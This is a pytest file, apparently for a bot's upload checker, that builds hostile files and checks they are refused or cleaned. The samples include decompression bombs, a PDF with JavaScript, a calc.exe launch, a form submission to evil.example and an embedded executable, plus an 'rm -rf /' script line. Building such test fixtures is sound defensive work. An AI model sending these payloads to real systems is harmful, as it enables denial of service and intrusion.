"""What strangers send: refused with the exact reason, and never more than the page is lost."""

import io
import random
import zipfile
import zlib

import pikepdf
import pillow_heif
import pytest
from PIL import Image

from bot.papers.inspect import PageRefused
from bot.papers.kinds import kind_of
from tests.paper import bound, checked, pdf, photo


def zipped() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as whole:
        whole.writestr("word/document.xml", "<x/>")
    return out.getvalue()


def bomb() -> bytes:
    """A picture of a few kilobytes that would unpack to billions of points."""
    from struct import pack
    from zlib import compress, crc32

    def chunk(kind: bytes, data: bytes) -> bytes:
        return pack(">I", len(data)) + kind + data + pack(">I", crc32(kind + data))

    header = pack(">IIBBBBB", 60_000, 60_000, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", compress(b"\0" * 1_000_000))
        + chunk(b"IEND", b"")
    )


def tiff(pages: int) -> bytes:
    out = io.BytesIO()
    first, *others = [Image.new("L", (60, 80), 255) for _ in range(pages)]
    first.save(out, "TIFF", save_all=True, append_images=others)
    return out.getvalue()


def armed() -> bytes:
    """A PDF that would run a script, start a program, send a form and carry a file."""
    with pikepdf.new() as document:
        page = document.add_blank_page(page_size=(595, 842))
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert('x')")
        launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe", Next=script)
        send = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://evil.example/")
        knowingly = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://jobcenter.example", Next=launch)
        document.Root.OpenAction = document.make_indirect(script)
        document.Root.AA = pikepdf.Dictionary(WC=script)
        rect = [0, 0, 100, 100]
        notes = [
            pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=rect, A=one)
            for one in (document.make_indirect(launch), send, knowingly)
        ]
        notes.append(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=rect))
        page.Annots = pikepdf.Array(notes)
        document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA="<xfa/>")
        document.attachments["virus.exe"] = b"MZ evil"
        document.Root.Names.JavaScript = pikepdf.Dictionary(Names=pikepdf.Array(["a", script]))
        out = io.BytesIO()
        document.save(out)
        return out.getvalue()


def drawing_bomb(*, twice: bool = False) -> bytes:
    """A page whose drawing unpacks to half a gigabyte, or to nobody knows what."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b" " * 1_000_000) for _ in range(500)) + packer.flush()
    filters = [pikepdf.Name.FlateDecode]
    if twice:
        packed, filters = zlib.compress(packed), filters * 2
    with pikepdf.new() as document:
        page = document.add_blank_page(page_size=(595, 842))
        stream = pikepdf.Stream(document, packed)
        stream.write(packed, filter=pikepdf.Array(filters))
        page.obj.Contents = document.make_indirect(stream)
        out = io.BytesIO()
        document.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
        return out.getvalue()


def no_pages() -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as document:
        document.save(out)
    return out.getvalue()


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"", "empty"),
        (b"just text", "kind"),
        (b"MZ" + b"\0" * 100, "kind"),
        (b"\x7fELF" + b"\0" * 100, "kind"),
        (b"#!/bin/sh\nrm -rf /\n", "kind"),
        (zipped(), "kind"),
        (pdf(2, password="x"), "encrypted"),
        (b"%PDF-1.7\nnothing here", "broken_pdf"),
        (no_pages(), "empty"),
        (pdf(100), "too_many_pages"),
        (b"\xff\xd8\xff" + b"\0" * 500, "broken_image"),
        (photo()[:2000], "broken_image"),
        (b"\x89PNG\r\n\x1a\n" + b"x" * 50, "broken_image"),
        (bomb(), "too_many_pixels"),
        (b"\xff\xd8\xff\xe0" + b"%PDF-1.7\n" + b"\0" * 500, "kind"),
        (b"PK\x03\x04" + pdf(1), "kind"),
        (tiff(70), "too_many_pages"),
        (drawing_bomb(), "too_heavy"),
        (drawing_bomb(twice=True), "too_heavy"),
        (pdf(10_000), "too_many_pages"),
    ],
)
async def test_refused_with_the_exact_reason(content: bytes, reason: str) -> None:
    with pytest.raises(PageRefused) as raised:
        await checked(content)
    assert raised.value.reason == reason


async def test_a_pdf_loses_what_acts_by_itself_and_keeps_what_is_printed() -> None:
    dangerous = (b"JavaScript", b"Launch", b"SubmitForm", b"calc.exe", b"evil", b"EmbeddedFile", b"XFA", b"OpenAction")
    before = await open_text(armed())
    assert all(word in before for word in dangerous)
    page = await checked(armed())
    after = await open_text(page.content)
    assert [word for word in dangerous if word in after] == []
    assert b"https://jobcenter.example" in after
    assert page.sheets == 1


async def open_text(content: bytes) -> bytes:
    """A PDF with nothing compressed, so that words can be searched."""
    with pikepdf.open(io.BytesIO(content)) as document:
        out = io.BytesIO()
        document.save(
            out,
            compress_streams=False,
            stream_decode_level=pikepdf.StreamDecodeLevel.all,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
        )
        return out.getvalue()


async def test_a_tiff_of_several_pages_is_several_sheets() -> None:
    page = await checked(tiff(3))
    assert page.media == "application/pdf" and page.sheets == 3


@pytest.mark.parametrize("form", ["JPEG", "PNG", "WEBP", "TIFF", "HEIF"])
async def test_pictures_are_written_anew(form: str) -> None:
    pillow_heif.register_heif_opener()
    page = await checked(photo(form=form))
    assert page.media == "image/jpeg" and page.sheets == 1
    assert kind_of(page.content) == "image/jpeg"


async def test_place_and_camera_are_gone_and_the_picture_is_upright() -> None:
    image = Image.new("RGB", (200, 100), "white")
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "Camera of Ana"
    exif.get_ifd(0x8825)[1] = "N"
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif)
    assert b"Camera of Ana" in out.getvalue()
    page = await checked(out.getvalue())
    with Image.open(io.BytesIO(page.content)) as written:
        assert written.size == (100, 200)
        assert not written.getexif()


async def test_pages_become_one_pdf_in_order() -> None:
    first, second = await checked(photo()), await checked(pdf(2))
    whole = await bound([(first.content, first.media), (second.content, second.media)])
    with pikepdf.open(io.BytesIO(whole)) as document:
        assert len(document.pages) == 3
        sizes = [(round(float(page.mediabox[2])), round(float(page.mediabox[3]))) for page in document.pages]
        assert max(sizes[0]) == 842 and sizes[1] == (595, 842)


async def test_random_bytes_never_break_more_than_the_page() -> None:
    """Whatever follows a good beginning ends in a reason."""
    chance = random.Random(7)
    for beginning in (b"%PDF-1.4\n", b"\xff\xd8\xff\xe0", b"II*\x00", b"\x89PNG\r\n\x1a\n", b"RIFF\0\0\0\0WEBP"):
        with pytest.raises(PageRefused):
            await checked(beginning + chance.randbytes(3000))
